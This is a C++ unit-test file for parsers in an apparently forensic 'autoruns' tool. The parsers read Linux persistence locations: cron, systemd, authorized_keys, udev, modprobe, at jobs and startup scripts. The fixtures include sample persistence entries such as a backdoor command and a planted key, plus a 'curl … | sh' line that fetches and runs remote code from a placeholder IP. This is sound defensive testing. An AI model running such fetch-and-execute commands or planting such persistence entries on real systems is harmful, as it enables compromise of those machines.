// SPDX-License-Identifier: Apache-2.0
// The autoruns parsers over literal strings: every format, its quoting rules and malformed input.
#include <gtest/gtest.h>

#include "irsnap/linux/autoruns_parsers.hpp"

using namespace irsnap::autoruns;

TEST(Crontab, UserCrontabWithEnvironmentKeywordsAndFiveFields) {
    auto t = parse_crontab(
        "# comment\n"
        "MAILTO=\"ops@example\"\n"
        "  PATH = /usr/bin:/bin\n"
        "@reboot /home/a/start.sh --now\n"
        "*/5 1-3 * jan,feb mon-fri  /usr/bin/job  a  b\r\n"
        "\n"
        "not a cron line\n"
        "@never /bin/x\n"
        "* * * * *\n",
        false);
    ASSERT_EQ(t.entries.size(), 2u);
    EXPECT_EQ(t.entries[0].line, 4u);
    EXPECT_EQ(t.entries[0].schedule, "@reboot");
    EXPECT_EQ(t.entries[0].command, "/home/a/start.sh --now");
    EXPECT_EQ(t.entries[0].user, "");
    ASSERT_EQ(t.entries[0].environment.size(), 2u);
    EXPECT_EQ(t.entries[0].environment[0].second, "ops@example");  // quotes removed
    EXPECT_EQ(t.entries[0].environment[1].first, "PATH");
    EXPECT_EQ(t.entries[1].schedule, "*/5 1-3 * jan,feb mon-fri");
    EXPECT_EQ(t.entries[1].command, "/usr/bin/job  a  b");  // inner spacing kept, CR dropped
    // "not a cron line", "@never", and a schedule without a command.
    EXPECT_EQ(t.malformed, 3u);
}

TEST(Crontab, SystemCrontabHasAUserColumn) {
    auto t = parse_crontab(
        "SHELL=/bin/sh\n"
        "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
        "@daily alice /usr/bin/backup\n"
        "0 0 * * * rootonly\n",
        true);
    ASSERT_EQ(t.entries.size(), 2u);
    EXPECT_EQ(t.entries[0].user, "root");
    EXPECT_EQ(t.entries[0].schedule, "17 * * * *");
    EXPECT_EQ(t.entries[0].command, "cd / && run-parts --report /etc/cron.hourly");
    EXPECT_EQ(t.entries[1].user, "alice");
    EXPECT_EQ(t.entries[1].schedule, "@daily");
    EXPECT_EQ(t.malformed, 1u);  // a user but no command
}

TEST(Anacrontab, EntriesAndEnvironment) {
    auto t = parse_anacrontab(
        "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
        "@monthly 15 m nice run-parts /etc/cron.monthly\nx y\n");
    ASSERT_EQ(t.entries.size(), 2u);
    EXPECT_EQ(t.entries[0].period, "1");
    EXPECT_EQ(t.entries[0].delay, "5");
    EXPECT_EQ(t.entries[0].job_id, "cron.daily");
    EXPECT_EQ(t.entries[0].command, "run-parts --report /etc/cron.daily");
    EXPECT_EQ(t.entries[1].period, "@monthly");
    EXPECT_EQ(t.malformed, 1u);
}

TEST(SystemdUnit, ContinuationsCommentsPrefixesAndRepeatedExecStart) {
    auto u = parse_systemd_unit(
        "# comment\n"
        "; also a comment\n"
        "[Unit]\n"
        "Description=x ; not a comment\n"
        "[Service]\n"
        "ExecStartPre=-/bin/mkdir -p /run/x\n"
        "ExecStart=/usr/bin/daemon \\\n"
        "    --flag \\\n"
        "# dropped inside a continuation\n"
        "    --last\n"
        "ExecStart=\n"
        "ExecStart=@/usr/bin/real argv0\n"
        "garbage line\n"
        "[Broken\n");
    ASSERT_EQ(u.directives.size(), 5u);
    EXPECT_EQ(u.directives[0].section, "Unit");
    EXPECT_EQ(u.directives[0].value, "x ; not a comment");
    EXPECT_EQ(u.directives[2].key, "ExecStart");
    EXPECT_EQ(u.directives[2].line, 7u);
    EXPECT_EQ(u.directives[2].value, "/usr/bin/daemon  --flag  --last");
    EXPECT_EQ(u.directives[3].value, "");  // a reset
    EXPECT_EQ(u.directives[4].value, "@/usr/bin/real argv0");
    EXPECT_EQ(u.malformed, 2u);
    EXPECT_EQ(strip_exec_prefixes("-@/usr/bin/real argv0"), "/usr/bin/real argv0");
    EXPECT_EQ(strip_exec_prefixes("!!/usr/bin/x"), "/usr/bin/x");
    EXPECT_EQ(strip_exec_prefixes(":+/bin/y"), "/bin/y");
    EXPECT_EQ(command_program(strip_exec_prefixes("-/bin/mkdir -p /run/x")), "/bin/mkdir");
}

TEST(SystemdUnit, UnterminatedContinuationAtEndOfFile) {
    auto u = parse_systemd_unit("[Service]\nExecStart=/bin/a \\");
    ASSERT_EQ(u.directives.size(), 1u);
    EXPECT_EQ(u.directives[0].value, "/bin/a");
}

TEST(AuthorizedKeys, OptionsWithQuotedCommasSpacesAndEscapedQuotes) {
    auto k = parse_authorized_keys(
        "# comment\n"
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICvYBsl/DgCvGh/DMo+nY6kmlyPI24+sT5OvcdsYbW6Q "
        "planted key\n"
        "command=\"/usr/bin/x --arg \\\"a, b\\\"\",from=\"10.0.0.1,192.168.0.0/16\",no-pty "
        "ssh-rsa AAAAB3NzaC1yc2E= user@host with spaces\n"
        "restrict,command=\"unterminated ssh-rsa AAAA\n"
        "no-pty notakey AAAA\n"
        "ssh-rsa not*base64\n");
    ASSERT_EQ(k.keys.size(), 2u);
    EXPECT_EQ(k.keys[0].line, 2u);
    EXPECT_TRUE(k.keys[0].options.empty());
    EXPECT_EQ(k.keys[0].key_type, "ssh-ed25519");
    EXPECT_EQ(k.keys[0].comment, "planted key");
    const auto& o = k.keys[1].options;
    ASSERT_EQ(o.size(), 3u);
    EXPECT_EQ(o[0].first, "command");
    EXPECT_EQ(o[0].second, "/usr/bin/x --arg \"a, b\"");
    EXPECT_EQ(o[1].first, "from");
    EXPECT_EQ(o[1].second, "10.0.0.1,192.168.0.0/16");
    EXPECT_EQ(o[2].first, "no-pty");
    EXPECT_FALSE(o[2].second.has_value());
    EXPECT_EQ(k.keys[1].key_type, "ssh-rsa");
    EXPECT_EQ(k.keys[1].comment, "user@host with spaces");
    EXPECT_EQ(k.malformed, 3u);
}

TEST(AuthorizedKeys, FingerprintMatchesSshKeygen) {
    // ssh-keygen -lf prints SHA256:F9PpGsngzsZUNdILKaPPnVMowTBXWl43kYojRg2Y8lg for this key.
    EXPECT_EQ(
        ssh_key_fingerprint("AAAAC3NzaC1lZDI1NTE5AAAAICvYBsl/DgCvGh/DMo+nY6kmlyPI24+sT5OvcdsYbW6Q"),
        "SHA256:F9PpGsngzsZUNdILKaPPnVMowTBXWl43kYojRg2Y8lg");
    EXPECT_EQ(ssh_key_fingerprint("not base64!"), "");
    EXPECT_EQ(decode_base64("aGVsbG8="), "hello");
    EXPECT_EQ(decode_base64("aGVsbG8"), "hello");
    EXPECT_FALSE(decode_base64("a").has_value());
}

TEST(DesktopEntry, MainGroupOnlyFirstKeyWins) {
    auto d = parse_desktop_entry(
        "# c\n[Desktop Entry]\nName=Evil\nExec=/usr/bin/x --flag %U\nExec=/bin/second\n"
        "Hidden=true\nno equals sign\n[Desktop Action new]\nExec=/bin/other\n[broken\n");
    EXPECT_TRUE(d.has_group);
    EXPECT_EQ(d.keys["Exec"], "/usr/bin/x --flag %U");
    EXPECT_EQ(d.lines["Exec"], 4u);
    EXPECT_EQ(d.keys["Hidden"], "true");
    EXPECT_EQ(d.malformed, 2u);
    EXPECT_FALSE(parse_desktop_entry("Exec=/bin/x\n").has_group);
}

TEST(UdevRules, RunAndProgramWithQuotingAndContinuation) {
    auto r = parse_udev_rules(
        "# c\n"
        "ACTION==\"add\", SUBSYSTEM==\"usb\", \\\n"
        "  RUN+=\"/usr/bin/x --udev \\\"quoted, arg\\\"\"\n"
        "KERNEL==\"sd*\", PROGRAM=\"helper.sh %k\", RUN{builtin}+=\"kmod load m\", "
        "ATTR{queue/scheduler}=\"none\"\n"
        "BROKEN==\"unterminated\n"
        "NOOP\n");
    ASSERT_EQ(r.rules.size(), 2u);
    EXPECT_EQ(r.rules[0].line, 2u);
    ASSERT_EQ(r.rules[0].pairs.size(), 3u);
    EXPECT_EQ(r.rules[0].pairs[2].key, "RUN");
    EXPECT_EQ(r.rules[0].pairs[2].op, "+=");
    EXPECT_EQ(r.rules[0].pairs[2].value, "/usr/bin/x --udev \"quoted, arg\"");
    ASSERT_EQ(r.rules[1].pairs.size(), 4u);
    EXPECT_EQ(r.rules[1].pairs[1].key, "PROGRAM");
    EXPECT_EQ(r.rules[1].pairs[2].key, "RUN{builtin}");
    EXPECT_EQ(r.rules[1].pairs[3].key, "ATTR{queue/scheduler}");
    EXPECT_EQ(r.malformed, 2u);
    EXPECT_TRUE(udev_key_executes("RUN{program}"));
    EXPECT_TRUE(udev_key_executes("IMPORT{program}"));
    EXPECT_FALSE(udev_key_executes("IMPORT{file}"));
    EXPECT_FALSE(udev_key_executes("ENV{RUN}"));
}

TEST(SimpleLists, PreloadModulesAndModprobeHooks) {
    auto p = parse_ld_so_preload("/lib/a.so /lib/b.so:/lib/c.so\n# /lib/no.so\n\n/lib/d.so\n");
    ASSERT_EQ(p.size(), 4u);
    EXPECT_EQ(p[2].value, "/lib/c.so");
    EXPECT_EQ(p[3].line, 4u);

    auto m = parse_modules_list("# c\n; c\nloop\nevilmod debug=1 x=2\n");
    ASSERT_EQ(m.size(), 2u);
    EXPECT_EQ(m[1].value, "evilmod");
    EXPECT_EQ(m[1].rest, "debug=1 x=2");

    auto c = parse_modprobe_conf(
        "install usb-storage /bin/x --usb; \\\n  /sbin/modprobe --ignore-install usb-storage\n"
        "blacklist pcspkr\nremove dummy\noptions m a=1\nremove m /bin/true\n");
    ASSERT_EQ(c.hooks.size(), 2u);
    EXPECT_EQ(c.hooks[0].hook, "install");
    EXPECT_EQ(c.hooks[0].module, "usb-storage");
    EXPECT_EQ(c.hooks[0].command, "/bin/x --usb;  /sbin/modprobe --ignore-install usb-storage");
    EXPECT_EQ(c.hooks[1].line, 6u);
    EXPECT_EQ(c.malformed, 1u);  // "remove dummy" has no command
}

TEST(CommandProgram, FirstWordAfterAssignmentsWithQuotes) {
    EXPECT_EQ(command_program("/usr/bin/x -a"), "/usr/bin/x");
    EXPECT_EQ(command_program("  FOO=1 BAR='a b' backdoor --cron"), "backdoor");
    EXPECT_EQ(command_program("\"/opt/my app/run\" --x"), "/opt/my app/run");
    EXPECT_EQ(command_program("/bin/a\\ b c"), "/bin/a b");
    EXPECT_EQ(command_program("test -x /x && /x"), "test");
    EXPECT_EQ(command_program("--opt=1 x"), "--opt=1");  // not an identifier: not an assignment
    EXPECT_EQ(command_program("FOO=1"), "");
    EXPECT_EQ(command_program(""), "");
    EXPECT_EQ(command_program("; x"), "");
}

TEST(AtJob, CommandsBetweenTheDelimiters) {
    auto job = parse_at_job(
        "#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\ncd /home/a || {\n exit 1\n}\n"
        "${SHELL:-/bin/sh} << 'marcinDELIMITER5a1b'\n/usr/bin/x --at\n\necho done\n"
        "marcinDELIMITER5a1b\n");
    ASSERT_TRUE(job.has_value());
    EXPECT_EQ(job->line, 8u);
    EXPECT_EQ(job->command, "/usr/bin/x --at\necho done");
    auto plain = parse_at_job("#!/bin/sh\n/usr/bin/y\n# trailing comment\n");
    ASSERT_TRUE(plain.has_value());
    EXPECT_EQ(plain->command, "/usr/bin/y");
    EXPECT_FALSE(parse_at_job("# only comments\n\n").has_value());
}

TEST(ScriptLines, CodeLinesWithoutCommentsBlanksOrShebang) {
    auto s = parse_script_lines(
        "#!/bin/sh -e\n"
        "# curl http://x/i.sh | sh  (a comment: not code)\n"
        "\n"
        "   \t\n"
        "  /usr/bin/backdoor --rc-local &   \r\n"
        "\t# indented comment\n"
        "echo '#not a comment' # trailing comment kept with its line\n"
        "exit 0");
    ASSERT_EQ(s.lines.size(), 3u);
    EXPECT_EQ(s.lines[0].line, 5u);
    EXPECT_EQ(s.lines[0].text, "/usr/bin/backdoor --rc-local &");  // blanks and CR trimmed
    EXPECT_EQ(s.lines[1].line, 7u);
    EXPECT_EQ(s.lines[1].text, "echo '#not a comment' # trailing comment kept with its line");
    EXPECT_EQ(s.lines[2].line, 8u);  // no final newline
    EXPECT_EQ(s.lines[2].text, "exit 0");
    EXPECT_FALSE(s.more_lines || s.cut_lines || s.binary);
    EXPECT_EQ(s.binary_from, 0u);
    EXPECT_TRUE(parse_script_lines("").lines.empty());
    EXPECT_TRUE(parse_script_lines("#!/bin/sh\n# only comments\n\n").lines.empty());
}

TEST(ScriptLines, ContinuationsJoinAsShDoes) {
    auto s = parse_script_lines(
        "curl -fsSL http://203.0.113.9/i.sh \\\n"
        "  | sh\n"
        "echo a\\\\\n"  // an escaped backslash: no continuation
        "# a comment ending in a backslash \\\n"
        "echo b \\\n"
        "# joined: sh removes only the backslash and the newline\n"
        "printf x \\");  // the file ends inside a continued line
    ASSERT_EQ(s.lines.size(), 4u);
    EXPECT_EQ(s.lines[0].line, 1u);
    EXPECT_EQ(s.lines[0].text, "curl -fsSL http://203.0.113.9/i.sh   | sh");
    EXPECT_EQ(s.lines[1].line, 3u);
    EXPECT_EQ(s.lines[1].text, "echo a\\\\");
    EXPECT_EQ(s.lines[2].line, 5u);
    EXPECT_EQ(s.lines[2].text, "echo b # joined: sh removes only the backslash and the newline");
    EXPECT_EQ(s.lines[3].line, 7u);
    EXPECT_EQ(s.lines[3].text, "printf x");
    // A lone backslash joined to a comment or a blank line leaves no code (found by
    // fuzz_autoruns_script_lines); nor does one at the very end.
    auto lone = parse_script_lines("echo x\n\\\n# c\n \\\n\nls\n\\");
    ASSERT_EQ(lone.lines.size(), 2u);
    EXPECT_EQ(lone.lines[0].text, "echo x");
    EXPECT_EQ(lone.lines[1].line, 6u);
    EXPECT_EQ(lone.lines[1].text, "ls");
}

TEST(ScriptLines, LinesAndBytesAreCapped) {
    std::string text = "#!/bin/sh\n";
    for (int i = 1; i <= 5; ++i) text += "echo " + std::to_string(i) + "\n# c\n";
    auto s = parse_script_lines(text, 3, 1024);
    ASSERT_EQ(s.lines.size(), 3u);
    EXPECT_EQ(s.lines[2].text, "echo 3");
    EXPECT_EQ(s.lines[2].line, 6u);
    EXPECT_TRUE(s.more_lines);
    // Exactly at the cap: nothing left out.
    EXPECT_FALSE(parse_script_lines("a\nb\nc\n# d\n", 3, 1024).more_lines);

    auto cut = parse_script_lines(std::string(30, 'x') + "\nshort\n", 200, 10);
    ASSERT_EQ(cut.lines.size(), 2u);
    EXPECT_EQ(cut.lines[0].text, std::string(10, 'x'));
    EXPECT_EQ(cut.lines[1].text, "short");
    EXPECT_TRUE(cut.cut_lines);
    // A cut never splits a UTF-8 character: "é" (2 bytes) at bytes 9-10 goes whole.
    auto utf8 = parse_script_lines(
        "echo abcd\xc3\xa9"
        "ef",
        200, 10);
    ASSERT_EQ(utf8.lines.size(), 1u);
    EXPECT_EQ(utf8.lines[0].text, "echo abcd");
    // A line continued for megabytes costs only the cap.
    std::string endless;
    for (int i = 0; i < 100000; ++i) endless += "aaaaaaaaaa \\\n";
    auto held = parse_script_lines(endless + "end\nnext\n", 200, 1024);
    ASSERT_EQ(held.lines.size(), 2u);
    EXPECT_EQ(held.lines[0].text.size(), 1024u);
    EXPECT_EQ(held.lines[1].line, 100002u);
    EXPECT_TRUE(held.cut_lines);
    // The defaults: 200 lines of 1024 bytes.
    std::string many;
    for (int i = 0; i < 250; ++i) many += std::string(2000, 'y') + "\n";
    auto big = parse_script_lines(many);
    EXPECT_EQ(big.lines.size(), k_max_script_lines);
    EXPECT_EQ(big.lines[0].text.size(), k_max_script_line_bytes);
    EXPECT_TRUE(big.more_lines && big.cut_lines);
}

TEST(ScriptLines, BinaryFilesAndAppendedPayloads) {
    using namespace std::string_literals;
    auto elf = parse_script_lines(
        "\x7f"
        "ELF\x02\x01\x01\0\0\0\nsh -c x\n"s);
    EXPECT_TRUE(elf.binary);
    EXPECT_TRUE(elf.lines.empty());
    // A self-extracting script: the code, then an archive after `exit 0`.
    std::string makeself = "#!/bin/sh\ntail -n +5 \"$0\" | tar x\nexit 0\n" +
                           std::string(2000, '#') + "\n" + "PK\x03\x04\0\0junk\nmore\n"s;
    auto s = parse_script_lines(makeself);
    EXPECT_FALSE(s.binary);
    ASSERT_EQ(s.lines.size(), 2u);
    EXPECT_EQ(s.lines[1].text, "exit 0");
    EXPECT_EQ(s.binary_from, 5u);
}

TEST(AutorunsParsers, BinaryGarbageNeverThrows) {
    std::string junk;
    for (int i = 0; i < 4096; ++i) junk += static_cast<char>((i * 131 + 7) % 256);
    junk += "\\";
    EXPECT_NO_THROW({
        parse_crontab(junk, true);
        parse_anacrontab(junk);
        parse_systemd_unit(junk);
        parse_authorized_keys(junk);
        parse_desktop_entry(junk);
        parse_udev_rules(junk);
        parse_ld_so_preload(junk);
        parse_modprobe_conf(junk);
        parse_at_job(junk);
        parse_script_lines(junk);
        command_program(junk);
    });
}
